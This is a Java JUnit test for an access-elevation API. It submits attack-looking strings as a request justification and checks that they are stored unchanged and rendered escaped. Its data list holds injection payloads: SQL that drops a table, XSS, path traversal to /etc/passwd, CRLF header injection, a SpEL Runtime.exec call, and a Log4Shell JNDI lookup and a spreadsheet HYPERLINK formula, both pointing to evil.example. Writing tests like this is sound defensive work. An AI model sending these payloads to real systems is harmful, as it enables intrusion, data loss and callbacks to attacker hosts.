package dev.twokey.api;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;
import tools.jackson.databind.json.JsonMapper;

/** Text that hides nothing, and would do harm where it is taken for more than text: it is kept, and shown, as it is. */
@OverTheWire
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HostileTextTest {
    private static final JsonMapper JSON = JsonMapper.builder().build();

    private final Scene scene;
    private final Line line;

    @Autowired
    HostileTextTest(Scene scene) {
        this.scene = scene;
        this.line = scene.line();
    }

    @AfterAll
    void hangUp() {
        line.close();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "${7*7}__${7*7}__#{7*7}*{7*7}~{error}",
                "[[${7*7}]] [(${@words})]",
                "T(java.lang.Runtime).getRuntime().exec('true')",
                "'; drop table twokey.request; --",
                "<script>alert(1)</script><img src=x onerror=alert(1)>",
                "\"><b onmouseover=x>&lt;/title&gt;</textarea>",
                "../../../../etc/passwd%00..%2f..%2f",
                "a\r\nX-Evil: 1\r\n\r\n<html>",
                "${jndi:ldap://evil.example/a}{{7*7}}%{7*7}",
                "=HYPERLINK(\"http://evil.example\")"
            })
    void text_that_looks_like_an_attack_is_text(String text) {
        Heard asked = line.ask(scene.by(
                        Reader.REQUESTER,
                        Ask.of("POST", "/api/v1/tenants/contoso/elevations")
                                .with("Content-Type: application/json")
                                .body("{\"roleGroup\":\"service-reader\",\"justification\":"
                                        + JSON.writeValueAsString(text) + ",\"ticket\":\"INC-1\"}"))
                .bytes());
        assertThat(asked.status()).as(asked.toString()).isEqualTo(201);
        assertThat(Answers.faults(asked)).isEmpty();
        String request = asked.json().path("request").asString("");
        assertThat(get("/api/v1/tenants/contoso/requests/" + request)
                        .json()
                        .path("justification")
                        .asString(""))
                .isEqualTo(text);
        isShownAsText(get("/t/contoso/requests/" + request), text);

        String form = "role=contoso/service-reader&duration=PT99H&ticket=INC-1&justification="
                + URLEncoder.encode(text, StandardCharsets.UTF_8);
        Heard refused = line.ask(scene.by(
                        Reader.REQUESTER,
                        Ask.of("POST", "/ask")
                                .with("Content-Type: application/x-www-form-urlencoded", "Accept: text/html")
                                .body(form))
                .bytes());
        assertThat(refused.status()).isEqualTo(422);
        isShownAsText(refused, text);
    }

    private Heard get(String path) {
        return line.ask(scene.by(Reader.REQUESTER, Ask.of("GET", path)).bytes());
    }

    private static void isShownAsText(Heard page, String text) {
        assertThat(Answers.faults(page)).isEmpty();
        String escaped = text.replace("&", "&amp;")
                .replace("<", "&lt;")
                .replace(">", "&gt;")
                .replace("\"", "&quot;")
                .replace("'", "&#39;");
        assertThat(page.text().replace("\r\n", "\n")).contains(escaped.replace("\r\n", "\n"));
    }
}
